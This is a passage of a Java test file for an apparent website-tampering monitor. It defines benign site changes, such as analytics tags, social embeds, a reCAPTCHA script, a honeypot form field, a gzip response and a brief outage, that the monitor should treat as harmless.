      e.site.phone = "06-9876-5432";
      e.site.address = "大阪府東大阪市高井田中5-6-7";
    }));
    v.add(good("English page linked from the menu", e -> {
      e.site.menu.add(new String[] {"English", "/en/"});
      e.site.extraPages.put("/en/", "<p>Yamada Seiko is a precision machining company in Higashi-Osaka, Japan. "
          + "We make parts for cars, medical devices and industrial machines.</p>");
    }));
    v.add(good("inline base64 image", e -> e.site.homeExtra = "<img alt=\"icon\" src=\"data:image/png;base64,"
        + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==".repeat(8) + "\">"));
    v.add(good("minified inline helper script", e -> e.site.footerExtra = "<script>!function(e,t){\"use strict\";var n=t."
        + "querySelectorAll(\"img[data-src]\");for(var r=0;r<n.length;r++){n[r].src=n[r].getAttribute(\"data-src\")}}"
        + "(window,document);</script>"));
    v.add(good("LINE friend button and Instagram embed", e -> e.site.homeExtra = "<a href=\"https://line.me/R/ti/p/@yamada\">"
        + "<img src=\"https://scdn.line-apps.com/n/line_add_friends/btn/ja.png\" alt=\"友だち追加\" height=\"36\"></a>"
        + "<blockquote class=\"instagram-media\" data-instgrm-permalink=\"https://www.instagram.com/p/abc/\"></blockquote>"
        + "<script async src=\"https://www.instagram.com/embed.js\"></script>"));
    v.add(good("Google reCAPTCHA on contact", e -> e.site.pageExtra.put("/contact/",
        "<script src=\"https://www.google.com/recaptcha/api.js?render=6LcABC\"></script>")));
    v.add(good("seasonal holiday notice text", e -> e.site.homeExtra = "<div class=\"notice\"><p>【重要】年末年始休業：12月28日〜"
        + "1月5日。休業中のお問い合わせは1月6日以降に順次回答いたします。</p></div>"));
    v.add(good("bot protection page once (blocked, not changed)", e -> e.site.override = r -> r.path().equals("/")
        ? new Reply(503, "text/html", ("<html><head><title>Just a moment...</title></head><body>"
            + "<div id=\"cf-chl-widget\">Checking your browser before accessing</div></body></html>").getBytes(), Map.of(), false)
        : null));
    v.add(good("gzip-compressed home page", e -> e.site.override = self(e.site)));
    v.add(good("site briefly down once, back before the re-check", e -> e.site.override = new java.util.function.Function<>() {
      private int calls;

      @Override
      public Reply apply(TestSite.Request r) {
        return calls++ == 0 ? Reply.status(502) : null;
      }
    }).runs(2));
    v.add(good("security headers unchanged, security.txt removed", e -> e.site.securityTxt = false));
    v.add(good("plugin added with its own same-site script", e -> e.site.headExtra =
        "<script src=\"/wp-content/plugins/slider/js/slider.min.js?ver=2.1\"></script>"
            + "<link rel=\"stylesheet\" href=\"/wp-content/plugins/slider/css/slider.css?ver=2.1\">"));
    v.add(good("Google Tag Manager container added", e -> e.site.headExtra = "<script>(function(w,d,s,l,i){w[l]=w[l]||[];"
        + "w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),"
        + "dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;"
        + "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-K9X8Y7');</script>"));
    v.add(good("timestamped expiry date in text", e -> e.site.homeExtra = "<p>最終更新: " + Instant.now() + "</p>"));
    v.add(good("firewall refuses the patrol's user agent", e -> e.site.override = r -> r.userAgent() != null
        && r.userAgent().startsWith("MamoriPatrol/") ? Reply.status(403) : null));
    v.add(good("theme script updated with a new version", e -> {
      e.site.themeVersion = "1.5.0";
      e.site.files.put("/wp-content/themes/yamada/js/navigation.js", "(function(){'use strict';const t=document.querySelector('.menu-toggle');if(!t)return;"
          + "t.addEventListener('click',()=>{document.body.classList.toggle('menu-open');});window.addEventListener('scroll',"
          + "()=>{document.body.classList.toggle('scrolled',window.scrollY>80);});})();");
    }));
    v.add(good("emoji-detection style inline script", e -> e.site.headExtra = "<script>!function(i,n){var o,s,e;function c(e)"
        + "{try{var t={supportTests:e,timestamp:(new Date).valueOf()};sessionStorage.setItem(o,JSON.stringify(t))}catch(e){}}"
        + "function p(e,t,n){e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(t,0,0);var t=new Uint32Array("
        + "e.getImageData(0,0,e.canvas.width,e.canvas.height).data),r=(e.clearRect(0,0,e.canvas.width,e.canvas.height),"
        + "e.fillText(n,0,0),new Uint32Array(e.getImageData(0,0,e.canvas.width,e.canvas.height).data));return t.every("
        + "function(e,t){return e===r[t]})}var u=String.fromCharCode;p(s,u(55356,57331,65039,8205,55356,57096),"
        + "u(55356,57331,65039,8203,55356,57096))}(window,document);</script>"));
    v.add(good("blog post about security incidents", e -> {
      e.site.news.add(0, new String[] {"2026.11.18", "セキュリティ講習会に参加しました", "/news/security-seminar/"});
      e.site.homeExtra = "<p>最近、中小企業のホームページが改ざんされたり、メールアカウントが乗っ取られたりする被害が増えています。"
          + "当社でもパスワードの見直しとソフトウェアの更新を徹底しています。</p>";
    }));
    v.add(good("footer gains partner links", e -> e.site.footerExtra = "<ul class=\"partners\"><li><a href=\"https://www.smrj.go.jp/\">"
        + "中小機構</a></li><li><a href=\"https://www.ipa.go.jp/\">IPA</a></li><li><a href=\"https://www.mufg.jp/\">取引銀行</a></li>"
        + "<li><a href=\"https://www.city.higashiosaka.lg.jp/\">東大阪市</a></li><li><a href=\"https://www.jetro.go.jp/\">JETRO</a></li>"
        + "<li><a href=\"https://monozukuri.example.jp/\">ものづくり協会</a></li></ul>"));
    v.add(good("honeypot field in the contact form", e -> e.site.contactFields = "<p style=\"display:none\"><label>"
        + "空欄のままにしてください<input name=\"hp_field\"></label></p>"));
    v.add(good("collapsed FAQ answers", e -> e.site.homeExtra = "<section class=\"faq\"><h2>よくある質問</h2><dl><dt>納期は？</dt>"
        + "<dd style=\"display:none\">通常2週間です。お急ぎの場合はご相談ください。</dd><dt>1個から注文できますか？</dt>"
        + "<dd style=\"display:none\">はい、1個から承ります。</dd></dl></section>"));
    v.add(good("cookie consent platform script", e -> e.site.headExtra = "<script src=\"https://cdn.cookielaw.org/scripttemplates/"
        + "otSDKStub.js\" data-domain-script=\"abc-123\"></script>"));
    v.add(good("AddToAny share buttons", e -> e.site.pageExtra.put("/news/new-machine/", "<div class=\"a2a_kit\"><a "
        + "class=\"a2a_button_facebook\"></a><a class=\"a2a_button_line\"></a></div><script async "
        + "src=\"https://static.addtoany.com/menu/page.js\"></script>")));
    v.add(good("bargain wording in a campaign", e -> e.site.homeExtra = "<div class=\"campaign\"><h2>年末大感謝セール</h2>"
        + "<p>在庫品を激安価格でご提供。送料無料、数量限定です。</p></div>"));
    v.add(good("X timeline embed", e -> e.site.homeExtra = "<a class=\"twitter-timeline\" href=\"https://twitter.com/yamadaseiko\">"
        + "Tweets</a><script async src=\"https://platform.twitter.com/widgets.js\" charset=\"utf-8\"></script>"));
    v.add(good("Adobe Fonts", e -> e.site.headExtra = "<link rel=\"stylesheet\" href=\"https://use.typekit.net/abc1def.css\">"));
    v.add(good("legacy Google Analytics loader", e -> e.site.headExtra = "<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;"
        + "i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),"
        + "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script',"
        + "'https://www.google-analytics.com/analytics.js','ga');ga('create','UA-1234-1','auto');ga('send','pageview');</script>"));
    v.add(good("new page with a YouTube video linked from news", e -> {
      e.site.news.add(0, new String[] {"2026.11.21", "工場見学動画を公開しました", "/news/factory-video/"});
      e.site.extraPages.put("/news/factory-video/", "<iframe src=\"https://www.youtube.com/embed/xyz\" width=\"560\" "
          + "height=\"315\"></iframe>");
    }));
    return v;
  }

  private static java.util.function.Function<TestSite.Request, Reply> self(CompanySite copy) {
    return r -> {
      if (r.path().equals("/")) {
        copy.override = x -> null;
        Reply plain = copy.apply(r);
        copy.override = self(copy);
        return new Reply(plain.status(), plain.contentType(), gzip(plain.body()), plain.headers(), true);
      }
      return null;
    };
  }
}
